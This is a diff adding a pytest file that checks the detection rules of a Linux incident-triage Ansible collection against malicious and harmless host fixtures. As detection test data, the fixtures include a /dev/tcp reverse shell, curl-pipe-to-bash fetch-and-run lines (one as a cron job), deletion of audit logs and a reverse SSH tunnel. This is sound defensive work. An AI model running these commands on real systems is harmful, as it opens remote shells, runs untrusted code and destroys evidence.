@@ -1,0 +1,423 @@
+# Copyright (c) 2026, the csirt.linux_triage authors
+# GNU General Public License v3.0-or-later (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+
+"""Every rule of the collection on what it must find, and on the harmless twin that it must not find."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+pytest.importorskip("duckdb")
+
+from ansible_collections.csirt.linux_triage.plugins.plugin_utils._analysis._case_db import open_case  # noqa: E402
+from ansible_collections.csirt.linux_triage.plugins.plugin_utils._analysis._findings import run_rule  # noqa: E402
+from ansible_collections.csirt.linux_triage.plugins.plugin_utils._analysis._rules import read_rules  # noqa: E402
+from ansible_collections.csirt.linux_triage.tests.unit.plugins.plugin_utils.case_helpers import RULES, add_rows  # noqa: E402
+
+OLD, NEW, NEWER = "2026-01-01T00:00:00", "2026-11-20T10:00:00", "2026-11-25T10:00:00"
+LIBC = {"path": "/usr/lib/libc.so.6", "executable": "/usr/lib/libc.so.6", "mechanism": "x", "package": "libc6"}
+
+
+def view(check, view_a="a", view_b="b", subject="1"):
+    return {"cross_views": [{"check": check, "subject": subject, "view_a": view_a, "says_a": "there", "view_b": view_b, "says_b": "not there"}]}
+
+
+def process(**facts):
+    return {"pid": 42, "ppid": 1, "comm": "x", "exe": "/usr/bin/x", "cmdline": ["x"], "uids": ["0", "0", "0", "0"], "started": NEW, **facts}
+
+
+def processes(*rows):
+    return {"processes": [process(**row) for row in rows]}
+
+
+def file(path, **facts):
+    return {"path": path, "type": "file", "mode": "0644", "uid": 0, "size": 100, "btime": NEW, "mtime": NEW, "ctime": NEW, **facts}
+
+
+def files(*rows):
+    return {"files": [file(**row) for row in rows]}
+
+
+def package_file(path, deviation, **facts):
+    return {"package_files": [{"path": path, "deviation": deviation, "package": None if deviation == "unowned" else "p", "type": "file",
+                               "mode": "0755", "ctime": NEW, **facts}]}
+
+
+def user(**facts):
+    return {"users": [{"source": "passwd", "file": "/etc/passwd", "user": "u", "uid": 1000, "password": "shadowed", "shell": "/bin/bash", **facts}]}
+
+
+def key(**facts):
+    return {"ssh_keys": [{"kind": "authorized", "path": "/root/.ssh/authorized_keys", "line": 1, "fingerprint": "SHA256:x", "user": "root", **facts}]}
+
+
+def login(**facts):
+    return {"file": "/var/log/wtmp", "record": 3, "source": "wtmp", "event": "login", "time": NEW, "user": "u", **facts}
+
+
+def typed(command, program="bash"):
+    return {"history": [{"path": "/root/.bash_history", "line": 1, "user": "root", "program": program, "command": command}]}
+
+
+def starts(*rows, owned=True):
+    """Things that start programs, on a host where owners are known."""
+    base = {"path": "/etc/x", "line": 1, "user": "root", "exists": True, "enabled": True}
+    return {"persistence": [{**base, **row} for row in rows] + ([LIBC] if owned else [])}
+
+
+def hit(score):
+    return {"webshell_hits": [{"path": "/var/www/x.php", "rule": "r", "title": "t", "score": score, "line": 1, "mtime": NEW}]}
+
+
+def web_file(path, **facts):
+    return {"web_files": [{"path": path, "zone": "web", "uid": 33, "owner": "www-data", "size": 500, "btime": NEW, **facts}]}
+
+
+def rare(kind, hosts_with, hosts_of=6):
+    return {"stack": [{"kind": kind, "kind_group": "debian 12", "value": "v", "hosts_with": hosts_with, "hosts_of": hosts_of, "path": "/x",
+                       "tbl": "files", "source_row": 7}]}
+
+
+def child_of(parent, child):
+    return {**processes({"pid": 10, "comm": "apache2", "uids": ["33"] * 4, **parent}, {"pid": 11, "ppid": 10, "uids": ["33"] * 4, **child}),
+            **user(user="www-data", uid=33)}
+
+
+def bpf(comm, kind):
+    return {**processes({"comm": comm}), "open_files": [{"pid": 42, "fd": 3, "bpf_program_id": 7, "bpf_program_type": kind}]}
+
+
+def opened(comm, target):
+    return {**processes({"comm": comm}), "open_files": [{"pid": 42, "fd": 3, "target": target}]}
+
+
+def mapped(path, exe="/usr/bin/x", **facts):
+    return {**processes({"exe": exe}), "mapped_files": [{"path": path, "processes": 1, "pids": ["42"], "deleted": False, **facts}]}
+
+
+def setting(path, value):
+    return {"kernel_settings": [{"path": path, "value": value}]}
+
+
+# Rule -> what it must find, what it must not find.
+CASES = {
+    "hidden-process": (view("D1"), view("D12", "taint of the kernel")),
+    "process-under-mount": (view("D2"), view("D1")),
+    "hidden-files": (view("D3", view_b="getdents64", subject="/etc/x"), view("D3", view_b="link count")),
+    "hidden-folder-count": (view("D3", view_b="link count"), view("D3", view_b="getdents64")),
+    "preload-lies": (view("D3", "libc", "system call"), view("D3", view_b="getdents64")),
+    "hidden-kernel-module": (view("D12", "/proc/modules", subject="evil"), view("D12", "taint of the kernel")),
+    "kernel-taint": (view("D12", "taint of the kernel"), view("D12", "/proc/modules")),
+    "kernel-thread-disguise": (view("D6", "name"), view("D6", "argument 0")),
+    "argument-disguise": (view("D6", "argument 0"), view("D6", "name")),
+    "shell-on-socket": (view("D7"), view("D6", "name")),
+    "views-disagree": (view("D14"), view("D1")),
+    "deleted-executable": (
+        processes({"exe": "/usr/sbin/evil (deleted)", "exe_deleted": True, "exe_path_taken": False}),
+        # The package was upgraded while it ran: another file has the name, or a package is newer than the process.
+        {**processes({"exe": "/usr/sbin/nginx (deleted)", "exe_deleted": True, "exe_path_taken": True},
+                     {"exe": "/usr/sbin/cron (deleted)", "exe_deleted": True, "started": OLD}),
+         "packages": [{"manager": "dpkg", "name": "cron", "installed": NEW}]},
+    ),
+    "deleted-executable-drop-zone": (
+        processes({"exe": "/var/tmp/.x (deleted)", "exe_deleted": True}),
+        processes({"exe": "/usr/bin/x (deleted)", "exe_deleted": True}, {"exe": "/memfd:x (deleted)", "exe_memfd": True, "exe_deleted": True}),
+    ),
+    "memfd-executable": (
+        processes({"exe": "/memfd:planted (deleted)", "exe_memfd": True}),
+        processes({"exe": "/memfd:runc_cloned:/proc/self/exe (deleted)", "exe_memfd": True}, {"exe": "/usr/bin/x"}),
+    ),
+    "executable-in-drop-zone": (
+        processes({"exe": "/dev/shm/run"}),
+        processes({"exe": "/tmp/.mount_app/usr/bin/app"}, {"exe": "/usr/bin/tmp/x"}, {"exe": "/tmp/x (deleted)", "exe_deleted": True}),
+    ),
+    "hidden-executable": (
+        processes({"exe": "/usr/lib/.x/run"}, {"exe": "/usr/bin/ls "}),
+        processes({"exe": "/home/u/.local/bin/tool"}, {"exe": "/home/u/.vscode-server/bin/node"}, {"exe": "/usr/bin/x"}),
+    ),
+    "library-from-drop-zone": (
+        mapped("/tmp/evil.so"),
+        {"processes": [process(exe="/usr/lib/jvm/bin/java"), process(pid=43, exe="/var/tmp/.x (deleted)")],
+         "mapped_files": [{"path": "/tmp/liblz4-java123.so", "processes": 1, "pids": ["42"]}, {"path": "/tmp/ffiAbC (deleted)", "pids": []},
+                          {"path": "/var/tmp/.x (deleted)", "pids": ["43"]}, {"path": "/usr/lib/libc.so.6", "pids": ["42"]}]},
+    ),
+    "unowned-library-mapped": (
+        {**mapped("/usr/lib/evil.so"), **package_file("/usr/lib/evil.so", "unowned")},
+        {**mapped("/usr/lib/libc.so.6"), **package_file("/usr/lib/other.so", "unowned")},
+    ),
+    "deleted-library": (
+        {**mapped("/usr/lib/evil.so (deleted)", deleted=True), **files({"path": "/usr/lib", "type": "directory"})},
+        # Upgraded: the name is there again; or a package is newer than the process; or nothing is known of files.
+        {**mapped("/usr/lib/libssl.so.3 (deleted)", deleted=True),
+         **files({"path": "/usr/lib", "type": "directory"}, {"path": "/usr/lib/libssl.so.3"})},
+    ),
+    "ld-so-preload": (
+        {"view": [{"subject": "ld.so.preload past libc", "value": "collected", "detail": "/lib/evil.so"}]},
+        {"view": [{"subject": "ld.so.preload past libc", "value": "absent", "detail": ""},
+                  {"subject": "ld.so.preload through libc", "value": "collected", "detail": ""}]},
+    ),
+    "preload-in-environment": (
+        processes({"environ": ["PATH=/bin", "LD_PRELOAD=/tmp/evil.so"]}),
+        processes({"environ": ["LD_PRELOAD=/usr/lib/libjemalloc.so.2", "LD_PRELOAD="]}, {"environ": None}),
+    ),
+    "critical-file-changed": (
+        package_file("/usr/sbin/sshd", "changed", critical=True),
+        package_file("/etc/ssh/sshd_config", "changed", critical=True, conffile=True),
+    ),
+    "program-changed": (
+        package_file("/usr/bin/who", "changed"),
+        package_file("/etc/default/x", "changed", conffile=True, mode="0644"),
+    ),
+    "package-file-changed": (
+        package_file("/usr/share/x/page.html", "changed", mode="0644"), package_file("/usr/bin/who", "changed"),
+    ),
+    "package-file-missing": (package_file("/usr/sbin/auditd", "missing"), package_file("/usr/share/doc/x", "missing")),
+    "suid-on-package-file": (package_file("/usr/bin/find", "mode", mode="4755"), package_file("/usr/bin/find", "mode", mode="0750")),
+    "unowned-pam-module": (
+        package_file("/usr/lib/x86_64-linux-gnu/security/pam_evil.so", "unowned"),
+        package_file("/usr/local/lib/security/pam_own.so", "unowned"),
+    ),
+    "unowned-suid": (
+        package_file("/usr/bin/evil", "unowned", mode="4755"),
+        {**package_file("/usr/bin/own", "unowned"), "hashes": [
+            {"path": "/usr/bin/sudo", "why": ["suid"], "package": "sudo", "mode": "4755", "type": "file"}]},
+    ),
+    "suid-in-odd-place": (
+        files({"path": "/tmp/.sh", "mode": "4755"}),
+        files({"path": "/usr/bin/sudo", "mode": "4755"}, {"path": "/tmp/x", "mode": "0755"}, {"path": "/srv/containers/a/su", "mode": "4755"}),
+    ),
+    "unowned-system-program": (
+        package_file("/usr/sbin/evil", "unowned"),
+        package_file("/usr/local/bin/own", "unowned"),
+    ),
+    "unowned-library": (
+        package_file("/usr/lib/x86_64-linux-gnu/libevil.so.1", "unowned"),
+        package_file("/usr/lib/python3/dist-packages/x.so", "unowned"),
+    ),
+    "dangerous-capability": (
+        files({"path": "/usr/bin/python3.11", "capabilities": "cap_setuid=ep"}),
+        files({"path": "/usr/bin/ping", "capabilities": "cap_net_raw=ep"}, {"path": "/usr/bin/newuidmap", "capabilities": "cap_setuid=ep"}),
+    ),
+    "immutable-file": (
+        files({"path": "/etc/cron.d/x", "attributes": "i"}),
+        files({"path": "/etc/resolv.conf", "attributes": "i"}, {"path": "/var/log/x.log", "attributes": "a"}),
+    ),
+    "uid-0-twin": (user(user="toor", uid=0), user(user="root", uid=0)),
+    "empty-password": (user(empty=True), user(empty=True, shell="/usr/sbin/nologin")),
+    "hash-in-passwd": (user(password="sha512"), user(password="none")),
+    "service-account-login": (user(user="sync2", uid=7, has_hash=True), user(user="u", uid=1000, has_hash=True)),
+    "service-account-key": (key(user="www-data"), key(user="root")),
+    "key-with-environment": (key(has_environment=True), key()),
+    "key-runs-command": (key(has_command=True, command="/bin/sh"), key()),
+    "login-record-wiped": (
+        {"logins": [login(zeroed=True, records=1)]},
+        {"logins": [login(source="lastlog", zeroed=True), login()]},
+    ),
+    "login-record-missing": (
+        {"logins": [login(source="wtmpdb", record=1), login(source="wtmpdb", record=5, missing_before=3)]},
+        # The oldest were removed, as they are.
+        {"logins": [login(source="wtmpdb", record=9, missing_before=8), login(source="wtmpdb", record=10)]},
+    ),
+    "login-record-blanked": ({"logins": [login(user=None, blanked=True)]}, {"logins": [login()]}),
+    "login-record-backwards": (
+        {"logins": [login(out_of_order=True, seconds_back=3600)]},
+        {"logins": [login(out_of_order=True, seconds_back=2), login(event="boot", out_of_order=True, seconds_back=3600)]},
+    ),
+    "guessed-password": (
+        {"logins": [login(source="btmp", event="failed", address="198.51.100.7", time=OLD)] * 12 + [login(address="198.51.100.7")]},
+        {"logins": [login(source="btmp", event="failed", address="198.51.100.7", time=OLD)] * 3 + [login(address="198.51.100.7")]},
+    ),
+    "history-to-null": (
+        {"history_files": [{"path": "/root/.bash_history", "link_target": "/dev/null"}]},
+        {"history_files": [{"path": "/root/.bash_history", "link_target": "/data/history"}]},
+    ),
+    "history-switched-off": (
+        processes({"environ": ["HISTFILE=/dev/null"]}), processes({"environ": ["HISTFILE=/root/.bash_history", "HISTSIZE=1000"]}),
+    ),
+    "history-wiped": (
+        {"history": [{"path": "/root/.bash_history", "line": 3, "note": "512 zero bytes"}]},
+        {"history": [{"path": "/root/.bash_history", "line": 3, "note": "a time without a command"}]},
+    ),
+    "history-protected": (
+        {"history_files": [{"path": "/root/.bash_history", "immutable": True}]},
+        {"history_files": [{"path": "/root/.bash_history", "append_only": True}]},
+    ),
+    "evil-history": (typed("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"), typed("curl -fsSL https://get.example.org | sh")),
+    "fetched-and-run": (typed("curl -fsSL https://get.example.org | sh"), typed("curl -o x https://example.org/x")),
+    "traces-removed-history": (typed("rm -rf /var/log/audit"), typed("rm -rf /var/cache/apt; history | grep clear")),
+    "log-to-null": (
+        {"log_files": [{"path": "/var/log/nginx/access.log", "to_null": True}]},
+        {"log_files": [{"path": "/var/log/nginx/access.log", "target": "/dev/stdout"}]},
+    ),
+    "system-log-to-null": (
+        files({"path": "/var/log/wtmp", "type": "link", "target": "/dev/null"}),
+        files({"path": "/var/log/nginx/access.log", "type": "link", "target": "/dev/null"}, {"path": "/var/log/wtmp"}),
+    ),
+    "packet-socket": (
+        {"sockets": [{"family": "packet", "comms": ["kworker"], "pids": ["9"], "inode": 5}]},
+        {"sockets": [{"family": "packet", "comms": ["dhclient"], "pids": ["9"], "inode": 5}, {"family": "inet", "comms": ["x"]}]},
+    ),
+    "bpf-program": (bpf("x", 2), {**bpf("systemd", 2)}),
+    "traced-process": (
+        processes({"pid": 42, "tracer_pid": 50}, {"pid": 50, "comm": "inject"}),
+        processes({"pid": 42, "tracer_pid": 50}, {"pid": 50, "comm": "gdb"}, {"pid": 51, "tracer_pid": 0}),
+    ),
+    "memory-or-keyboard-read": (opened("x", "/proc/99/mem"), opened("systemd-logind", "/dev/input/event0")),
+    "evil-command-running": (
+        processes({"cmdline": ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"]}),
+        processes({"cmdline": ["sh", "-c", "curl https://example.org"]}),
+    ),
+    "tunnel-running": (
+        processes({"exe": "/usr/bin/ssh", "cmdline": ["ssh", "-N", "-R", "2222:localhost:22", "x@example.org"]}),
+        processes({"exe": "/usr/bin/ssh", "cmdline": ["ssh", "-o", "X=Y", "host"]}, {"exe": "/usr/sbin/sshd"}),
+    ),
+    "shell-below-service": (
+        child_of({"exe": "/usr/sbin/apache2"}, {"exe": "/usr/bin/dash", "cmdline": ["sh", "-i"]}),
+        child_of({"exe": "/usr/sbin/sshd"}, {"exe": "/usr/bin/bash"}),
+    ),
+    "persistence-in-drop-zone": (
+        starts({"mechanism": "cron", "command": "/dev/shm/.x/run", "executable": "/dev/shm/.x/run"}),
+        starts({"mechanism": "cron", "command": "find /tmp -mtime +7 -delete", "executable": "/usr/bin/find"},
+               {"mechanism": "systemd_service", "command": "/usr/bin/x --socket /tmp/x.sock", "executable": "/usr/bin/x"}),
+    ),
+    "persistence-evil-command": (
+        starts({"mechanism": "cron", "command": "curl -s http://198.51.100.7/x | bash", "executable": "/usr/bin/curl"}),
+        starts({"mechanism": "cron", "command": "wget -qO /dev/null https://example.org/cron.php", "executable": "/usr/bin/wget"}),
+    ),
+    "persistence-preload": (
+        starts({"mechanism": "ld_preload", "command": "/lib/evil.so", "path": "/etc/ld.so.preload"}),
+        starts({"mechanism": "systemd_service", "command": "LD_PRELOAD=/usr/lib/libjemalloc.so.2 /usr/sbin/mysqld"}),
+    ),
+    "auth-module-unowned": (
+        starts({"mechanism": "pam", "executable": "/lib/security/pam_evil.so"},
+               {"mechanism": "pam", "executable": "/lib/security/pam_unix.so", "executable_package": "libpam"}),
+        # Nothing is known of packages here.
+        starts({"mechanism": "pam", "executable": "/lib/security/pam_unix.so"}),
+    ),
+    "pam-runs-program": (starts({"mechanism": "pam", "command": "session optional pam_exec.so /x"}), starts({"mechanism": "pam", "command": "pam_unix.so"})),
+    "unit-of-no-package": (
+        starts({"mechanism": "systemd_service", "path": "/usr/lib/systemd/system/evil.service"}),
+        starts({"mechanism": "systemd_service", "path": "/etc/systemd/system/own.service"},
+               {"mechanism": "systemd_service", "path": "/usr/lib/systemd/system/cron.service", "package": "cron"}),
+    ),
+    "generator-of-no-package": (
+        starts({"mechanism": "systemd_generator", "path": "/etc/systemd/system-generators/x"}),
+        starts({"mechanism": "systemd_generator", "path": "/usr/lib/systemd/system-generators/x", "package": "systemd"}),
+    ),
+    "cron-of-service-user": (
+        starts({"mechanism": "cron", "path": "/var/spool/cron/crontabs/www-data", "user": "www-data"}),
+        starts({"mechanism": "cron", "path": "/etc/cron.d/php", "user": "www-data"}, {"mechanism": "cron", "path": "/var/spool/cron/crontabs/root"}),
+    ),
+    "cron-file-of-service-user": (
+        files({"path": "/var/spool/cron/crontabs/www-data"}), files({"path": "/var/spool/cron/crontabs/root"}),
+    ),
+    "hook-of-no-package": (
+        starts({"mechanism": "udev", "path": "/etc/udev/rules.d/1.rules", "executable": "/usr/bin/evil"}),
+        starts({"mechanism": "udev", "path": "/etc/udev/rules.d/1.rules", "executable": "/usr/bin/x", "executable_package": "x"}),
+    ),
+    "young-persistence": (
+        {**starts({"mechanism": "systemd_service", "executable": "/usr/local/bin/x", "btime": NEWER}), "packages": [{"name": "a", "installed": NEW}]},
+        {**starts({"mechanism": "systemd_service", "executable": "/usr/local/bin/x", "btime": OLD}), "packages": [{"name": "a", "installed": NEW}]},
+    ),
+    "persistence-target-missing": (
+        starts({"mechanism": "cron", "executable": "/home/gone/run.sh", "exists": False}),
+        starts({"mechanism": "cron", "executable": "/usr/bin/gone", "exists": False}),
+    ),
+    "webshell": (hit(90), hit(60)),
+    "webshell-likely": (hit(50), hit(90)),
+    "webshell-sign": (hit(20), hit(50)),
+    "program-in-web-root": (web_file("/var/www/html/x", magic="elf"), web_file("/var/www/html/cgi-bin/x", magic="elf")),
+    "script-posing-as-picture": (web_file("/var/www/html/a.jpg", magic="php_tag"), web_file("/var/www/html/a.php", magic="php_tag")),
+    "script-among-uploads": (
+        web_file("/var/www/html/uploads/x.php", script="php"),
+        web_file("/var/www/html/uploads/index.php", script="php", size=28),
+    ),
+    "program-in-drop-zone": (
+        files({"path": "/tmp/x", "mode": "0755"}),
+        files({"path": "/tmp/systemd-private-1/tmp/x", "mode": "0755"}, {"path": "/tmp/x", "mode": "0644"}, {"path": "/usr/bin/x", "mode": "0755"}),
+    ),
+    "program-content-in-drop-zone": (web_file("/tmp/x", zone="tmp", magic="elf"), web_file("/var/www/html/x", magic="elf")),
+    "file-in-dev": (files({"path": "/dev/.x"}), files({"path": "/dev/shm/x"}, {"path": "/dev/null", "type": "char"})),
+    "odd-file-name": (files({"path": "/tmp/.. /x"}, {"path": "/etc/..."}), files({"path": "/home/u/my file "}, {"path": "/etc/x.conf"})),
+    "hidden-in-drop-zone": (
+        files({"path": "/dev/shm/.x", "type": "directory"}), files({"path": "/tmp/.X11-unix", "type": "directory"}, {"path": "/tmp/.x"}),
+    ),
+    "known-implant-path": (files({"path": "/usr/lib/libseconf"}), files({"path": "/usr/lib/libsecret-1.so.0"})),
+    "stolen-secrets-staged": (
+        files({"path": "/tmp/shadow.bak"}, {"path": "/var/tmp/id_rsa"}), files({"path": "/etc/shadow"}, {"path": "/tmp/shadows.txt", "size": 0}),
+    ),
+    "time-set-back": (
+        files(*({"path": f"/usr/bin/{name}", "btime": OLD, "mtime": OLD} for name in "abcd"), {"path": "/usr/bin/e", "btime": NEW, "mtime": OLD}),
+        # Owned by a package, or unpacked together with others.
+        {**files(*({"path": f"/usr/bin/{name}", "btime": OLD, "mtime": OLD} for name in "abcd"), {"path": "/usr/bin/e", "btime": NEW, "mtime": OLD}),
+         "hashes": [{"path": "/usr/bin/e", "package": "e"}]},
+    ),
+    "core-dump-program": (
+        setting("/proc/sys/kernel/core_pattern", "|/tmp/x %p"),
+        {"kernel_settings": [{"path": "/proc/sys/kernel/core_pattern", "value": value} for value in (
+            "core", "|/usr/lib/systemd/systemd-coredump %P", "|/usr/share/apport/apport -p%p", "|/bin/false")]},
+    ),
+    "module-loader-changed": (setting("/proc/sys/kernel/modprobe", "/tmp/x"), setting("/proc/sys/kernel/modprobe", "/sbin/modprobe")),
+    "kernel-module-without-file": (
+        {"modules": [{"name": "ext4", "file": "/x"}, {"name": "xfs", "file": "/x"}, {"name": "evil"}]},
+        # The kernel's modules were removed as a whole.
+        {"modules": [{"name": "ext4"}, {"name": "xfs"}]},
+    ),
+    "foreign-kernel-module": ({"modules": [{"name": "nvidia", "taints": "OE"}]}, {"modules": [{"name": "ext4", "taints": ""}]}),
+    "malware-found": (
+        {"av_hits": [{"engine": "clamav", "kind": "infected", "path": "/x", "signature": "Unix.Trojan"}]},
+        {"av_hits": [{"engine": "rkhunter", "kind": "warning", "path": "/x"}]},
+    ),
+    "scanner-warning": (
+        {"av_hits": [{"engine": "rkhunter", "kind": "warning", "message": "m"}]},
+        {"av_hits": [{"engine": "clamav", "kind": "infected", "path": "/x"}]},
+    ),
+    "web-prepends-script": (
+        {"web_services": [{"kind": "handler", "file": "/etc/apache2/x.conf", "line": 3, "setting": "php_value auto_prepend_file /tmp/x.php"}]},
+        {"web_services": [{"kind": "handler", "file": "/etc/apache2/x.conf", "line": 3, "setting": "auto_prepend_file = "}]},
+    ),
+    "privileges-without-root": (
+        processes({"exe": "/usr/bin/bash", "uids": ["1000"] * 4, "cap_effective": "000001ffffffffff"}),
+        processes({"exe": "/usr/bin/bash", "uids": ["0"] * 4, "cap_effective": "000001ffffffffff"},
+                  {"exe": "/usr/bin/bash", "uids": ["1000"] * 4, "cap_effective": "0000000000000400"}),
+    ),
+    **{f"rare-{kind.replace('_', '-')}": (rare(kind, 1), {"stack": rare(kind, 2)["stack"] + rare(kind, 1, 2)["stack"]}) for kind in (
+        "authorized_key", "user", "suid", "kernel_module", "cron", "unit", "persistence", "executable", "listener", "package_file")},
+}
+
+
+TABLES = {"findings", *(table for both in CASES.values() for tables in both for table in tables)}
+
+
+@pytest.fixture(scope="module")
+def rules():
+    return {rule.id: rule for rule in read_rules([RULES])}
+
+
+@pytest.fixture(scope="module")
+def case(tmp_path_factory):
+    with open_case(tmp_path_factory.mktemp("case")) as opened_case:
+        yield opened_case
+
+
+def test_every_rule_is_tested(rules):
+    assert set(rules) == set(CASES)
+
+
+@pytest.mark.parametrize("name", CASES)
+def test_rule(name, rules, case):
+    found, harmless = CASES[name]
+    for table in TABLES:
+        case.connection.execute(f"DELETE FROM {table}")
+    add_rows(case, "bad", found)
+    add_rows(case, "good", harmless)
+    run_rule(case, rules[name])
+    findings = case.rows("SELECT * FROM findings")
+    assert {row["host"] for row in findings} == {"bad"}
+    for row in findings:
+        assert row["summary"] and row["subject"]
+        assert all(one.get("table") for one in json.loads(row["evidence"]))
+        assert json.loads(row["evidence"])
